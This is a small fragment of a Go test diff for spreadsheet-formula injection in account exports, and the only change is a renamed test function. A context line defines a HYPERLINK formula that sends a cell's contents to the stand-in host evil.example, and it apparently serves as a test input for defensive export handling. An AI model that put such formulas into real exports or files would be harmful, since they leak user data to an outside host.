@@ -17,7 +17,7 @@ const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`
 
 // Some of these can be typed, some only the application beside it can have put
 // into its accounts. The record has them all, and so will an export.
-func TestThreat27SpreadsheetFormulas(t *testing.T) {
+func TestSpreadsheetFormulas(t *testing.T) {
 	each(t, nil, func(s *service) {
 		s.account(user)
 		m := s.member("arno", "agent")
